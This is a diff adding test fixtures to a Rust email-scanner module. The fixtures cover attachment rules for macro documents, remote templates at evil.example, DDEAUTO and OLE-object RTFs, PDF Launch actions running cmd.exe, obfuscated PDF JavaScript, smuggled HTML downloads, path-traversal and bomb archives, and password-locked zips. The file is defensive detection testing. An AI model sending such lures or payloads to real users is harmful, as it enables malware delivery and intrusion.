@@ -1,4 +1,4 @@
-//! Mails for the rules about attached files.
+//! Mails for the rules about attached files. The packed ones were made for these cases, from nothing but what their names say.
 
 use super::{Case, FactSet};
 
@@ -20,13 +20,137 @@ macro_rules! with_file {
     };
 }
 
+macro_rules! with_words {
+    ($words:literal, $name:literal, $($body:tt)*) => {
+        concat!(
+            "--b\nContent-Type: text/plain; charset=utf-8\n\n",
+            $words,
+            "\n--b\nContent-Type: application/octet-stream; name=\"",
+            $name,
+            "\"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\n",
+            $($body)*,
+            "\n--b--\n"
+        )
+    };
+}
+
+macro_rules! with_packed {
+    ($name:literal, $($body:tt)*) => {
+        with_words!("see file", $name, $($body)*)
+    };
+}
+
+macro_rules! zip_notes {
+    () => {
+        "UEsDBBQAAAAIAABQdV0mfR9wCQAAAAcAAAAJAAAAbm90ZXMudHh0K05NVajMLwUAUEsBAhQDFAAAAAgAAFB1XSZ9H3AJAAAABwAAAAkAAAAAAAAAAAAAAIABAAAAAG5vdGVzLnR4dFBLBQYAAAAAAQABADcAAAAwAAAAAAA="
+    };
+}
+
+macro_rules! zip_program {
+    () => {
+        "UEsDBBQAAAAIAABQdV1dm7CPBAAAAAIAAAALAAAAaW52b2ljZS5leGXzjQIAUEsBAhQDFAAAAAgAAFB1XV2bsI8EAAAAAgAAAAsAAAAAAAAAAAAAAIABAAAAAGludm9pY2UuZXhlUEsFBgAAAAABAAEAOQAAAC0AAAAAAA=="
+    };
+}
+
+macro_rules! zip_double {
+    () => {
+        "UEsDBBQAAAAIAABQdV1dm7CPBAAAAAIAAAAPAAAAaW52b2ljZS5wZGYuZXhl840CAFBLAQIUAxQAAAAIAABQdV1dm7CPBAAAAAIAAAAPAAAAAAAAAAAAAACAAQAAAABpbnZvaWNlLnBkZi5leGVQSwUGAAAAAAEAAQA9AAAAMQAAAAAA"
+    };
+}
+
+macro_rules! zip_page {
+    () => {
+        "UEsDBBQAAAAIAABQdV2tQnt2EwAAABUAAAAMAAAAaW52b2ljZS5odG1ss8koyc2xsymwq7DRL7Cz0QdzAVBLAQIUAxQAAAAIAABQdV2tQnt2EwAAABUAAAAMAAAAAAAAAAAAAACAAQAAAABpbnZvaWNlLmh0bWxQSwUGAAAAAAEAAQA6AAAAPQAAAAAA"
+    };
+}
+
+macro_rules! zip_site {
+    () => {
+        "UEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDAuaHRtbLPJKMnNsQMAUEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDEuaHRtbLPJKMnNsQMAUEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDIuaHRtbLPJKMnNsQMAUEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDMuaHRtbLPJKMnNsQMAUEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDQuaHRtbLPJKMnNsQMAUEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDUuaHRtbLPJKMnNsQMAUEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDYuaHRtbLPJKMnNsQMAUEsDBBQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAcDcuaHRtbLPJKMnNsQMAUEsBAhQDFAAAAAgAAFB1XUEMQ8cIAAAABgAAAAcAAAAAAAAAAAAAAIABAAAAAHAwLmh0bWxQSwECFAMUAAAACAAAUHVdQQxDxwgAAAAGAAAABwAAAAAAAAAAAAAAgAEtAAAAcDEuaHRtbFBLAQIUAxQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAAAAAAAAAAACAAVoAAABwMi5odG1sUEsBAhQDFAAAAAgAAFB1XUEMQ8cIAAAABgAAAAcAAAAAAAAAAAAAAIABhwAAAHAzLmh0bWxQSwECFAMUAAAACAAAUHVdQQxDxwgAAAAGAAAABwAAAAAAAAAAAAAAgAG0AAAAcDQuaHRtbFBLAQIUAxQAAAAIAABQdV1BDEPHCAAAAAYAAAAHAAAAAAAAAAAAAACAAeEAAABwNS5odG1sUEsBAhQDFAAAAAgAAFB1XUEMQ8cIAAAABgAAAAcAAAAAAAAAAAAAAIABDgEAAHA2Lmh0bWxQSwECFAMUAAAACAAAUHVdQQxDxwgAAAAGAAAABwAAAAAAAAAAAAAAgAE7AQAAcDcuaHRtbFBLBQYAAAAACAAIAKgBAABoAQAAAAA="
+    };
+}
+
+macro_rules! zip_zip {
+    () => {
+        "UEsDBBQAAAAIAABQdV0GuzryQAAAAG8AAAAJAAAAaW5uZXIuemlwC/BmZhFhYGDgYGAIKI1tFrvTwwzkMQIxKxAn6pVUlKwGSnkzMokw41YHAw0gAYiuAG9WNgawEkYGYyCtBlYAAFBLAQIUAxQAAAAIAABQdV0GuzryQAAAAG8AAAAJAAAAAAAAAAAAAACAAQAAAABpbm5lci56aXBQSwUGAAAAAAEAAQA3AAAAZwAAAAAA"
+    };
+}
+
+macro_rules! zip_locked {
+    () => {
+        "UEsDBBQAAQAAAAAAAABolUrqIwAAABcAAAALAAAAaW52b2ljZS50eHQnfSDXVQBZHAGI8eo8UE9fCraqTVbOoUP2VbGdHNW5jgKGuFBLAQIUABQAAQAAAAAAAABolUrqIwAAABcAAAALAAAAAAAAAAAAAAAAAAAAAABpbnZvaWNlLnR4dFBLBQYAAAAAAQABADkAAABMAAAAAAA="
+    };
+}
+
+macro_rules! zip_out {
+    () => {
+        "UEsDBBQAAAAIAABQdV2DFtyMAwAAAAEAAAATAAAALi4vLi4vc3RhcnQvcnVuLnR4dKsAAFBLAQIUAxQAAAAIAABQdV2DFtyMAwAAAAEAAAATAAAAAAAAAAAAAACAAQAAAAAuLi8uLi9zdGFydC9ydW4udHh0UEsFBgAAAAABAAEAQQAAADQAAAAAAA=="
+    };
+}
+
+macro_rules! zip_bomb {
+    () => {
+        "UEsDBBQAAAAIAABQdV3KxoiZBgAAAAAAAEAFAAAAYS5iaW5jYKA9AABQSwECFAMUAAAACAAAUHVdysaImQYAAAAAAABABQAAAAAAAAAAAAAAgAEAAAAAYS5iaW5QSwUGAAAAAAEAAQAzAAAAKQAAAAAA"
+    };
+}
+
+macro_rules! doc_plain {
+    () => {
+        "UEsDBBQAAAAIAABQdV3HHBc8CgAAAAgAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbLMJqSxILda3AwBQSwMEFAAAAAgAAFB1Xd1ahg0PAAAADQAAABEAAAB3b3JkL2RvY3VtZW50LnhtbLMpt0rJTy7NTc0r0bcDAFBLAQIUAxQAAAAIAABQdV3HHBc8CgAAAAgAAAATAAAAAAAAAAAAAACAAQAAAABbQ29udGVudF9UeXBlc10ueG1sUEsBAhQDFAAAAAgAAFB1Xd1ahg0PAAAADQAAABEAAAAAAAAAAAAAAIABOwAAAHdvcmQvZG9jdW1lbnQueG1sUEsFBgAAAAACAAIAgAAAAHkAAAAAAA=="
+    };
+}
+
+macro_rules! doc_macro {
+    () => {
+        "UEsDBBQAAAAIAABQdV3HHBc8CgAAAAgAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbLMJqSxILda3AwBQSwMEFAAAAAgAAFB1XYMW3IwDAAAAAQAAABMAAAB3b3JkL3ZiYVByb2plY3QuYmluqwAAUEsBAhQDFAAAAAgAAFB1XcccFzwKAAAACAAAABMAAAAAAAAAAAAAAIABAAAAAFtDb250ZW50X1R5cGVzXS54bWxQSwECFAMUAAAACAAAUHVdgxbcjAMAAAABAAAAEwAAAAAAAAAAAAAAgAE7AAAAd29yZC92YmFQcm9qZWN0LmJpblBLBQYAAAAAAgACAIIAAABvAAAAAAA="
+    };
+}
+
+macro_rules! doc_sheet {
+    () => {
+        "UEsDBBQAAAAIAABQdV3HHBc8CgAAAAgAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbLMJqSxILda3AwBQSwMEFAAAAAgAAFB1XYMW3IwDAAAAAQAAABkAAAB4bC9tYWNyb3NoZWV0cy9zaGVldDEueG1sqwAAUEsBAhQDFAAAAAgAAFB1XcccFzwKAAAACAAAABMAAAAAAAAAAAAAAIABAAAAAFtDb250ZW50X1R5cGVzXS54bWxQSwECFAMUAAAACAAAUHVdgxbcjAMAAAABAAAAGQAAAAAAAAAAAAAAgAE7AAAAeGwvbWFjcm9zaGVldHMvc2hlZXQxLnhtbFBLBQYAAAAAAgACAIgAAAB1AAAAAAA="
+    };
+}
+
+macro_rules! doc_template {
+    () => {
+        "UEsDBBQAAAAIAABQdV3HHBc8CgAAAAgAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbLMJqSxILda3AwBQSwMEFAAAAAgAAFB1XVSJW1+PAAAAzAAAABwAAAB3b3JkL19yZWxzL3NldHRpbmdzLnhtbC5yZWxzVY5NCsIwEIWvUnKATnHhQtqudOHCTekFhmTaBpJMSEapt3dAhLp8fx+vnyigeE5187mO/VE2dzcYNM38zjSYTSRfAKrdKGJtOVPaY1i4RBSVZQVeFm/pyvYZKQmcuu4M5YgHFEHdu5liVp+UjWUl+dKr4unlQ0s7ak4grWOJv9KDnd647UIlYTAw9vB//gNQSwECFAMUAAAACAAAUHVdxxwXPAoAAAAIAAAAEwAAAAAAAAAAAAAAgAEAAAAAW0NvbnRlbnRfVHlwZXNdLnhtbFBLAQIUAxQAAAAIAABQdV1UiVtfjwAAAMwAAAAcAAAAAAAAAAAAAACAATsAAAB3b3JkL19yZWxzL3NldHRpbmdzLnhtbC5yZWxzUEsFBgAAAAACAAIAiwAAAAQBAAAAAA=="
+    };
+}
+
+macro_rules! doc_own_template {
+    () => {
+        "UEsDBBQAAAAIAABQdV3HHBc8CgAAAAgAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbLMJqSxILda3AwBQSwMEFAAAAAgAAFB1XXD06qSZAAAA0gAAABwAAAB3b3JkL19yZWxzL3NldHRpbmdzLnhtbC5yZWxzVY+xDsIwEEN/pcoH9CoGhqrtAgwMMKCydTk1lzZSkouSQyp/TxiQymjLfrK7BzkUyyGvNuah28vqqnuFqhrfkXq1isQWIM8recw1Rwqbd4aTRykyLcDG2JnOPL88BYFD0xwh7fGAIlj6eiQfi0+FjWkh6ZWxjgodTu30zJTyhCHgdP/SXa1Z/C96Y13GXDahFNApGDr4v/ABUEsBAhQDFAAAAAgAAFB1XcccFzwKAAAACAAAABMAAAAAAAAAAAAAAIABAAAAAFtDb250ZW50X1R5cGVzXS54bWxQSwECFAMUAAAACAAAUHVdcPTqpJkAAADSAAAAHAAAAAAAAAAAAAAAgAE7AAAAd29yZC9fcmVscy9zZXR0aW5ncy54bWwucmVsc1BLBQYAAAAAAgACAIsAAAAOAQAAAAA="
+    };
+}
+
+macro_rules! one_script {
+    () => {
+        "5FJce4zYp02usVN40CmW0wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAADnFuO9ZSYRRaTEjU0Lep6sIgAAAAAAAAAAAAAAAAAAAAAAAAA8aHRtbD48c2NyaXB0Png8L3NjcmlwdD48L2h0bWw+ICAgIA=="
+    };
+}
+
+macro_rules! one_plain {
+    () => {
+        "5FJce4zYp02usVN40CmW0wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
+    };
+}
+
 pub(super) const CASES: &[Case] = &[
     Case {
         rule: "html-attached",
-        fires: &[(MIXED, with_file!("text/html", "invoice.html", "<html><form></form></html>"))],
+        fires: &[
+            (MIXED, with_file!("text/html", "invoice.html", "<html><p>see the bill</p></html>")),
+            (MIXED, with_file!("text/html", "view.htm", "<!doctype html><script>x()</script>")),
+        ],
         silent: &[
             (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
             ("Content-Type: text/html", "<p>an ordinary body</p>"),
+            (
+                "List-Id: Talk <talk.lists.example>\nList-Post: <mailto:talk@lists.example>\nReturn-Path: <talk-bounces@lists.example>\nTo: talk@lists.example\nContent-Type: multipart/mixed; boundary=b",
+                with_file!("text/html", "page.html", "<html><p>x</p></html>"),
+            ),
+            (MIXED, with_file!("image/svg+xml", "logo.svg", "<svg><path/></svg>")),
         ],
         facts: FactSet::default,
     },
@@ -46,14 +170,90 @@ pub(super) const CASES: &[Case] = &[
         facts: FactSet::default,
     },
     Case {
+        rule: "page-builds-file",
+        fires: &[
+            (
+                MIXED,
+                with_file!(
+                    "text/html",
+                    "view.html",
+                    "<html><script>var d=atob(window.data);var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download=1</script></html>"
+                ),
+            ),
+            (MIXED, with_file!("text/html", "play.htm", "<html><body onload='location.href=atob(x)'></html>")),
+        ],
+        silent: &[
+            (MIXED, with_file!("text/html", "report.html", "<html><script>document.title=new Date()</script></html>")),
+            (MIXED, with_file!("text/html", "report.html", "<html><p>How to use atob( and Blob</p></html>")),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "page-leads-on",
+        fires: &[(
+            MIXED,
+            with_file!(
+                "text/html",
+                "fax.html",
+                "<html><meta http-equiv=refresh content='0;url=https://evil.example/'></html>"
+            ),
+        )],
+        silent: &[
+            (MIXED, with_file!("text/html", "report.html", "<html><meta http-equiv=refresh content=300></html>")),
+            (MIXED, with_file!("text/html", "report.html", "<html><meta charset=utf-8><p>x</p></html>")),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
         rule: "program-attached",
         fires: &[
             (MIXED, with_file!("application/octet-stream", "invoice.exe", "MZ")),
-            (MIXED, with_file!("text/plain", "run.vbs", "x")),
+            (MIXED, with_file!("application/octet-stream", "viewer.msi", "x")),
         ],
         silent: &[
             (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
             (MIXED, with_file!("text/plain", "report for example.com", "x")),
+            (MIXED, with_file!("application/octet-stream", "invoice.pdf.exe", "MZ")),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "script-attached",
+        fires: &[
+            (MIXED, with_file!("text/plain", "run.vbs", "x")),
+            (MIXED, with_file!("application/octet-stream", "order.hta", "<hta:application>")),
+        ],
+        silent: &[
+            (MIXED, with_file!("text/plain", "build.py", "x")),
+            (
+                "List-Id: Talk <talk.lists.example>\nList-Post: <mailto:talk@lists.example>\nReturn-Path: <talk-bounces@lists.example>\nTo: talk@lists.example\nContent-Type: multipart/mixed; boundary=b",
+                with_file!("text/plain", "widget.js", "x"),
+            ),
+            (MIXED, with_file!("text/plain", "readme.txt", "run.vbs")),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "shortcut-attached",
+        fires: &[
+            (MIXED, with_file!("application/octet-stream", "invoice.lnk", "x")),
+            (MIXED, with_file!("text/plain", "open.url", "[InternetShortcut]\nURL=https://evil.example/")),
+        ],
+        silent: &[
+            (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
+            (MIXED, with_file!("text/plain", "link.txt", "https://www.sender.example/")),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "disk-image-attached",
+        fires: &[
+            (MIXED, with_file!("application/octet-stream", "disk.iso", "x")),
+            (MIXED, with_file!("application/octet-stream", "scan.img", "x")),
+        ],
+        silent: &[
+            (MIXED, with_file!("application/octet-stream", "scan.tiff", "x")),
+            (MIXED, with_packed!("files.zip", zip_notes!())),
         ],
         facts: FactSet::default,
     },
@@ -68,10 +268,24 @@ pub(super) const CASES: &[Case] = &[
         fires: &[
             (MIXED, with_file!("application/octet-stream", "invoice.pdf.exe", "MZ")),
             (MIXED, with_file!("text/html", "scan.pdf.html", "x")),
+            (MIXED, with_packed!("invoice.zip", zip_double!())),
         ],
         silent: &[
             (MIXED, with_file!("application/pdf", "invoice.2026.pdf", "%PDF-1.4")),
             (MIXED, with_file!("text/html", "page.html", "x")),
+            (MIXED, with_packed!("invoice.zip", zip_program!())),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "ending-out-of-sight",
+        fires: &[
+            (MIXED, with_file!("application/octet-stream", "report                         .exe", "MZ")),
+            (MIXED, with_file!("application/octet-stream", "run.exe...", "MZ")),
+        ],
+        silent: &[
+            (MIXED, with_file!("application/pdf", "report of the year.pdf", "%PDF-1.4")),
+            (MIXED, with_file!("application/pdf", "a                         .pdf", "%PDF-1.4")),
         ],
         facts: FactSet::default,
     },
@@ -85,16 +299,213 @@ pub(super) const CASES: &[Case] = &[
         facts: FactSet::default,
     },
     Case {
+        rule: "holds-program",
+        fires: &[(MIXED, with_packed!("invoice.zip", zip_program!()))],
+        silent: &[
+            (MIXED, with_packed!("notes.zip", zip_notes!())),
+            (
+                "List-Id: Talk <talk.lists.example>\nList-Post: <mailto:talk@lists.example>\nReturn-Path: <talk-bounces@lists.example>\nTo: talk@lists.example\nContent-Type: multipart/mixed; boundary=b",
+                with_packed!("tool.zip", zip_program!()),
+            ),
+            (MIXED, with_packed!("invoice.zip", zip_double!())),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "archive-holds-page",
+        fires: &[(MIXED, with_packed!("invoice.zip", zip_page!()))],
+        silent: &[
+            (MIXED, with_packed!("site.zip", zip_site!())),
+            (
+                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
+                with_packed!("invoice.zip", zip_page!()),
+            ),
+            (MIXED, with_packed!("notes.zip", zip_notes!())),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "archive-locked",
+        fires: &[
+            (MIXED, with_words!("The archive is locked. Password: rosebud7", "invoice.zip", zip_locked!())),
+            (MIXED, with_words!("解凍パスワードは「rosebud7」です。", "invoice.zip", zip_locked!())),
+        ],
+        silent: &[
+            (MIXED, with_words!("The password comes by phone.", "invoice.zip", zip_locked!())),
+            (MIXED, with_words!("Password: rosebud7", "notes.zip", zip_notes!())),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "archive-in-archive",
+        fires: &[(MIXED, with_packed!("a.zip", zip_zip!()))],
+        silent: &[
+            (MIXED, with_packed!("a.zip", zip_notes!())),
+            (
+                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
+                with_packed!("a.zip", zip_zip!()),
+            ),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "archive-bomb",
+        fires: &[(MIXED, with_packed!("a.zip", zip_bomb!()))],
+        silent: &[(MIXED, with_packed!("a.zip", zip_notes!()))],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "archive-leads-out",
+        fires: &[(MIXED, with_packed!("a.zip", zip_out!()))],
+        silent: &[(MIXED, with_packed!("a.zip", zip_notes!()))],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "macro-attached",
+        fires: &[(MIXED, with_packed!("order.docm", doc_macro!())), (MIXED, with_packed!("order.docx", doc_macro!()))],
+        silent: &[
+            (MIXED, with_packed!("order.docx", doc_plain!())),
+            (
+                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
+                with_packed!("order.docm", doc_macro!()),
+            ),
+            (MIXED, with_packed!("order.xlsm", doc_sheet!())),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "macro-starts-itself",
+        fires: &[
+            (MIXED, with_packed!("order.xlsm", doc_sheet!())),
+            (MIXED, with_file!("application/rtf", "order.rtf", "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}")),
+        ],
+        silent: &[(MIXED, with_packed!("order.docm", doc_macro!())), (MIXED, with_packed!("order.docx", doc_plain!()))],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "template-from-elsewhere",
+        fires: &[
+            (MIXED, with_packed!("order.docx", doc_template!())),
+            (
+                MIXED,
+                with_file!("application/rtf", "order.rtf", "{\\rtf1{\\*\\template https://evil.example/t.dotm}}"),
+            ),
+        ],
+        silent: &[
+            (MIXED, with_packed!("order.docx", doc_own_template!())),
+            (MIXED, with_packed!("order.docx", doc_plain!())),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "object-exploits",
+        fires: &[
+            (
+                MIXED,
+                with_file!(
+                    "application/rtf",
+                    "order.rtf",
+                    "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}"
+                ),
+            ),
+            (
+                MIXED,
+                with_file!(
+                    "application/msword",
+                    "order.doc",
+                    "{\\rtf1{\\object{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"
+                ),
+            ),
+        ],
+        silent: &[
+            (MIXED, with_file!("application/rtf", "letter.rtf", "{\\rtf1 a letter}")),
+            (
+                MIXED,
+                with_file!(
+                    "application/rtf",
+                    "letter.rtf",
+                    "{\\rtf1{\\object{\\*\\objdata 01050000020000000c000000576f72642e5069637475726500}}}"
+                ),
+            ),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "onenote-with-files",
+        fires: &[(MIXED, with_packed!("notes.one", one_script!()))],
+        silent: &[(MIXED, with_packed!("notes.one", one_plain!()))],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "pdf-starts-program",
+        fires: &[(
+            MIXED,
+            with_file!(
+                "application/pdf",
+                "a.pdf",
+                "%PDF-1.4\n1 0 obj\n<</Type/Page/OpenAction<</S/Launch/F(cmd.exe)>>>>\nendobj"
+            ),
+        )],
+        silent: &[(MIXED, with_file!("application/pdf", "a.pdf", "%PDF-1.4\n1 0 obj\n<</Type/Page>>\nendobj"))],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "pdf-script",
+        fires: &[(
+            MIXED,
+            with_file!(
+                "application/pdf",
+                "a.pdf",
+                "%PDF-1.4\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>>>\nendobj"
+            ),
+        )],
+        silent: &[(
+            MIXED,
+            with_file!("application/pdf", "a.pdf", "%PDF-1.4\n1 0 obj\n<</OpenAction[3 0 R/Fit]>>\nendobj"),
+        )],
+        facts: FactSet::default,
+    },
+    Case {
+        rule: "pdf-only-link",
+        fires: &[(
+            MIXED,
+            with_file!(
+                "application/pdf",
+                "doc.pdf",
+                "%PDF-1.4\n1 0 obj\n<</Type/Page/Annots[2 0 R]>>\nendobj\n2 0 obj\n<</Subtype/Link/A<</S/URI/URI(https://evil.example/x)>>>>\nendobj\n"
+            ),
+        )],
+        silent: &[
+            (
+                MIXED,
+                with_file!(
+                    "application/pdf",
+                    "letter.pdf",
+                    "%PDF-1.4\n1 0 obj\n<</Type/Page/Annots[2 0 R]>>\nendobj\n2 0 obj\n<</A<</S/URI/URI(https://www.sender.example/)>>>>\nendobj\n3 0 obj\n<</Length 390>>\nstream\nBT (words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter words of a letter ) Tj ET\nendstream\nendobj\n"
+                ),
+            ),
+            (
+                "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
+                with_file!(
+                    "application/pdf",
+                    "doc.pdf",
+                    "%PDF-1.4\n1 0 obj\n<</Type/Page/Annots[2 0 R]>>\nendobj\n2 0 obj\n<</Subtype/Link/A<</S/URI/URI(https://evil.example/x)>>>>\nendobj\n"
+                ),
+            ),
+        ],
+        facts: FactSet::default,
+    },
+    Case {
         rule: "container-attached",
         fires: &[
-            (MIXED, with_file!("application/zip", "files.zip", "PK")),
-            (MIXED, with_file!("application/octet-stream", "disk.iso", "x")),
+            (MIXED, with_packed!("files.zip", zip_notes!())),
+            (MIXED, with_file!("application/octet-stream", "files.rar", "x")),
         ],
         silent: &[
             (MIXED, with_file!("application/pdf", "invoice.pdf", "%PDF-1.4")),
             (
                 "Subject: Re: x\nIn-Reply-To: <1@example.org>\nContent-Type: multipart/mixed; boundary=b",
-                with_file!("application/zip", "files.zip", "PK"),
+                with_packed!("files.zip", zip_notes!()),
             ),
         ],
         facts: FactSet::default,
